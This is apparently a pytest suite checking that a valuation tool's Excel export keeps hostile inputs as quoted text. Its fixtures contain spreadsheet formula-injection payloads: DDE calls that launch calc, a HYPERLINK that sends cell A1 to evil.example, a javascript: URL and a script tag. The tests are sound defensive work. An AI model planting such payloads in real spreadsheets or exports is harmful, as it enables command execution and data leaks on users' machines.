"""A case that is hostile everywhere: its texts stay texts, its names become legal, and nothing is cut unsaid."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_opening import converted
from workbooks import Engine, need_libreoffice, run_tool

from valuation.cli import main
from valuation.reading import load as read_case
from valuation.reading import read
from valuation.study import Study, load
from valuation.texts import LONGEST_TEXT, shortened, unfit, units
from valuation.workbook.address import LONGEST_TITLE, sheet_title
from valuation.workbook.carried import case_of
from valuation.workbook.opening import open_book
from valuation.workbook.verify import verify_book

CALC = "@cmd|'/c calc'!A1"
LINK = '=HYPERLINK("http://evil.example/"&A1,"click")'
SUM = "+SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
PICTURE = "\U0001f4a3" * 40
LONG = "-" + "long " * 6_000  # 30,001 characters
ESCAPE = "_x0041_ _x000D_"
MARKUP = "<script>alert(1)</script> ]]> &amp; &#x41;"


def q(text: str) -> str:
    """A text as YAML takes any: in double quotes."""
    return json.dumps(text, ensure_ascii=False)


FILES = {
    "case.yaml": f"""\
name: {q(CALC)}
currency: CNY
date: 2026-02-02
years: 3
evidence: seeds/facts.yaml
segments: [tax2026, r1c1, history, checks, summary, xfd1]
""",
    "seeds/facts.yaml": f"""\
- id: fact.one
  statement: {q(LINK)}
  value: =1+1
  unit: "@unit"
  as_of: "-1"
  kind: {q(TAB)}
  source_title: {q(SUM)}
  source_url: "javascript:alert(1)"
  published: {q(ESCAPE)}
- {{id: fact.long, statement: {q(LONG)}}}
- {{id: fact.longer, statement: {q(LONG)}}}
""",
    "drivers.yaml": f"""\
risk_free: {{value: ~ pert(1%, 2%, 3%), source: [fact.one, fact.long, fact.longer], note: {q(LINK)}}}
sum_1: {{value: ~ normal(5%, 1%), source: judgement, why: {q(SUM)}, owner: "=owner"}}
""",
    "segments/tax2026.yaml": f"""\
name: {q(f"+SUM(1+1) [x]:*?/ a very long name, of a part that no sheet can carry {PICTURE}")}
method: dcf
note: {q(LINK)}
revenue: {{value: 100 CNY m, source: judgement, why: {q(LINK)}}}
growth: fade(10% to 3% over 3 years)
margin: {{value: 20%, source: judgement, why: {q(TAB)}}}
tax_rate: {{value: 25%, source: judgement, why: {q(MARKUP)}}}
wacc: = drivers.risk_free + drivers.sum_1 + 3%
sales_to_capital: 2
terminal_growth: 1%
terminal_return: 12%
""",
    "segments/r1c1.yaml": 'name: "@Inputs"\nmethod: stake\nvalue: 5 CNY m\n',
    "segments/history.yaml": 'name: History\nmethod: stake\nvalue: {value: 5 CNY m, note: "a\\nb"}\n',
    "segments/checks.yaml": "name: CHECKS\nmethod: stake\nvalue: 5 CNY m\n",
    "segments/summary.yaml": f"""\
name: {q(f"-Summary {MARKUP}")}
method: stake
value: = parent_cash * drivers.risk_free
parent_cash: 5 CNY m
""",
    "segments/xfd1.yaml": """\
name: "'quoted'"
method: multiple
metric: 3 CNY m
basis: EV/Sales
multiple: = median(peers.gang.ev_sales)
""",
    "peers/gang.csv": f'company,ev_sales,note\n=1+1,2.5,{q(LINK).replace(chr(92), chr(34))}\n{CALC},3,"{TAB}"\n'
    f'"-3+{MARKUP}",4,"{ESCAPE}"\n',
    "scenarios.yaml": f"""\
"=cmd": {{probability: 40%, why: {q(LINK)}, set: {{tax2026.margin: 25%}}}}
{q("@" + MARKUP)}: {{probability: 60%, why: {q(LONG)}, set: {{tax2026.margin: 15%}}}}
""",
    "correlations.yaml": f"- {{between: [drivers.risk_free, drivers.sum_1], rank: 0.3, why: {q(SUM)}}}\n",
    "transactions/sold.yaml": f"""\
name: {q("+" + MARKUP)}
route: sale
part: r1c1
probability: 10%
premium: {{value: 20%, source: judgement, why: {q(LINK)}}}
note: {q(SUM)}
""",
    "shares.yaml": 'diluted: 10 m shares\nprice: {value: 9 CNY/share, note: "=1"}\n',
    "bridge.yaml": f"cash: {{value: 5 CNY m, source: judgement, why: {q(TAB)}}}\n",
}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile") / "=cmd"
    for name, text in FILES.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def study(folder: Path) -> Study:
    return load(folder)


@pytest.fixture(scope="module")
def book(study: Study, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return study.write_workbook(tmp_path_factory.mktemp("book") / "hostile.xlsx", study.simulate(256))


def test_the_hostile_case_is_hostile_where_texts_are(study: Study) -> None:
    texts = {found.origin.why for found in study.case.inputs} | {
        fact.statement for fact in study.case.evidence.values()
    }
    assert {LINK, SUM, LONG, MARKUP} <= texts
    assert set(FILES) - {"seeds/facts.yaml"} <= set(study.case.files)


@pytest.mark.parametrize("rule", ["R28", "R35", "R36", "R43"])
def test_lint_finds_names_texts_limits_and_links_in_order(rule: str, book: Path) -> None:
    found = run_tool("workbook_lint.py", "--strict", str(book))
    assert re.search(rf"^{rule} PASS +0 ", found.stdout, re.MULTILINE), found.stdout


def test_every_text_that_looks_like_a_formula_is_quoted(book: Path) -> None:
    """What a cell holds is text, and its quote prefix keeps it one when somebody edits the cell."""
    opened, plain = openpyxl.load_workbook(book), open_book(book)
    risky = 0
    for title, cells in plain.constants.items():
        for (row, column), value in cells.items():
            if isinstance(value, str) and value[:1] in tuple("=+-@\t\r\n"):
                risky += 1
                assert opened[title].cell(row + 1, column + 1).quotePrefix, (title, row, column, value[:40])
    assert risky > 30
    formulas = "\n".join(text for cells in plain.formulas.values() for text in cells.values())
    for words in ("HYPERLINK", "cmd|", "evil"):
        assert words not in formulas


def test_the_book_is_the_model_and_rebuilds_its_case(book: Path, study: Study) -> None:
    proof = verify_book(book, draws=20, other=study.case)
    assert proof.proved, str(proof)
    assert proof.match is not None
    assert proof.match.matches, str(proof.match)
    own, _ = case_of(open_book(book))
    assert own.files == {name: text for name, text in study.case.files.items() if name != "evidence.yaml"}


def test_titles_are_legal_and_different(book: Path) -> None:
    titles = open_book(book).sheets
    assert len({title.casefold() for title in titles}) == len(titles)
    for title in titles:
        assert units(title) <= LONGEST_TITLE
        assert not re.search(r"[\\/*?:\[\]]|^'|'$", title)


def test_names_are_no_addresses(book: Path) -> None:
    for name in open_book(book).names:
        assert re.fullmatch(r"[a-z_][a-z0-9_.]*", name)
        assert not re.fullmatch(r"[a-z]{1,3}\d+|r\d*c\d*|[rc]", name)


def test_what_was_cut_says_so(book: Path) -> None:
    cut = [
        value
        for cells in open_book(book).constants.values()
        for value in cells.values()
        if isinstance(value, str) and "(cut here: " in value
    ]
    assert cut  # the statements of three facts together
    assert all(units(value) <= LONGEST_TEXT for value in cut)


def test_another_engine_reads_it(book: Path, study: Study) -> None:
    assert Engine(book).read("Summary!C5") == pytest.approx(study.value().per_share, rel=1e-12)


@pytest.mark.libreoffice
def test_libreoffice_opens_it_and_keeps_every_text(book: Path, study: Study, tmp_path: Path) -> None:
    need_libreoffice()
    found = run_tool("recalc.py", str(book), "--tol", "1e-9")
    assert found.returncode == 0, found.stdout + found.stderr
    before, after = open_book(book), open_book(converted(book, tmp_path))
    for title, cells in before.constants.items():
        for spot, value in cells.items():
            if isinstance(value, str):
                assert after.constants[title].get(spot) == value, (title, spot)


def test_every_command_takes_it(folder: Path, tmp_path: Path) -> None:
    for arguments in (["value"], ["check"], ["run", "--draws", "64", "-o", str(tmp_path / "b.xlsx")]):
        result = CliRunner().invoke(main, [arguments[0], str(folder), *arguments[1:]])
        assert result.exception is None or isinstance(result.exception, SystemExit), result.output
        assert "internal error" not in result.output


# What is refused, with its place ----------------------------------------------------------------------------------

SMALL = """\
name: Test
currency: CNY
shares: {diluted: 10 m shares}
segments:
  a:
    method: stake
    value: {value: 5 CNY m, source: judgement, why: "WHY"}
"""


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        ("a\\u0007b", "expected text, found the control character U+0007"),
        ("a\\0b", "expected text, found the control character U+0000"),
        ("a\\rb", "expected text, found the control character U+000D"),
        ("a\\uFFFFb", "expected text, found the control character U+FFFF"),
        ("a\\uD800b", "expected text, found half of a character"),
        ("x" * 32_768, "expected at most 32,767 characters, all that a cell holds, found 32,768"),
        ("\U0001f4a3" * 16_384, "found 32,768"),
    ],
    ids=["bell", "null", "return", "no character", "half", "long", "long in pictures"],
)
def test_a_text_that_no_cell_can_hold_is_refused_with_its_place(
    text: str, complaint: str, write: Callable[[str], Path]
) -> None:
    case, problems = read(write(SMALL.replace("WHY", text)))
    assert case is None
    assert (problems[0].place.line, problems[0].place.column) == (7, 53)
    assert complaint in problems[0].text


@pytest.mark.parametrize(
    "text", ["x" * 32_767, "\U0001f4a3" * 16_383, "tab\\tline\\nend", "\\x85 \\u2028 \\u202E \\u0301"]
)
def test_a_text_that_just_fits_is_kept_whole(text: str, write: Callable[[str], Path], tmp_path: Path) -> None:
    study = load(write(SMALL.replace("WHY", text)))
    why = study.case.input("a.value").origin.why
    book = open_book(study.write_workbook(tmp_path / "book.xlsx"))
    assert why in {value for cells in book.constants.values() for value in cells.values()}
    assert case_of(book)[0].input("a.value").origin.why == why


@pytest.mark.parametrize(("cell", "complaint"), [("a\x01b", "U+0001"), ("x" * 40_000, "found 40,000")])
def test_a_cell_of_a_table_is_refused_with_its_place(cell: str, complaint: str, tmp_path: Path) -> None:
    (tmp_path / "peers").mkdir()
    (tmp_path / "case.yaml").write_text(SMALL)
    (tmp_path / "peers" / "gang.csv").write_text(f"company,ev_sales\none,2\n{cell},3\n")
    case, problems = read(tmp_path)
    assert case is None
    assert str(problems[0].place) == f"{tmp_path / 'peers' / 'gang.csv'}:3:1"
    assert complaint in problems[0].text


@pytest.mark.parametrize("number", ["nan CNY m", ".inf CNY m", "1e999 CNY m", "-1e999 CNY m", "NaN", "Infinity CNY m"])
def test_what_is_no_finite_number_is_refused(number: str, write: Callable[[str], Path]) -> None:
    case, problems = read(write(SMALL.replace("5 CNY m", number)))
    assert case is None
    assert any("expected a number" in problem.text for problem in problems)


@pytest.mark.parametrize("name", ["TAX2026", "R1C1", "a b", "a-b", "=a", "a.b", "ä", "1a", "x" * 61])
def test_names_that_could_be_no_names_of_cells_are_refused(name: str, write: Callable[[str], Path]) -> None:
    case, problems = read(write(SMALL.replace("  a:\n", f'  "{name}":\n')))
    assert case is None
    assert name in str(problems[0])


# Any text at all ----------------------------------------------------------------------------------------------------

ANY = st.text(st.characters(), max_size=60)


@given(ANY)
def test_a_text_is_refused_or_fits(text: str) -> None:
    assert (shortened(text) == text) == (unfit(text) == "")
    assert unfit(shortened(text)) == ""


@given(st.lists(ANY, max_size=6))
def test_titles_of_any_texts_are_legal_and_different(texts: list[str]) -> None:
    taken: set[str] = set()
    for text in texts:
        title = sheet_title(text, taken)
        assert 0 < units(title) <= LONGEST_TITLE
        assert not re.search(r"[\\/*?:\[\]\x00-\x1f]|^'|'$", title)
        assert title.casefold() not in taken
        assert title.casefold() != "history"
        taken.add(title.casefold())


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=40).filter(lambda text: not unfit(text)))
def test_any_reason_comes_back_from_the_book(text: str, tmp_path: Path) -> None:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    (tmp_path / "any.yaml").write_text(SMALL.replace("WHY", f"x{escaped}x"), encoding="utf-8")
    study = load(tmp_path / "any.yaml")
    book = open_book(study.write_workbook(tmp_path / "book.xlsx"))
    assert case_of(book)[0].input("a.value").origin.why == study.case.input("a.value").origin.why
    assert read_case(tmp_path / "any.yaml").files == case_of(book)[0].files
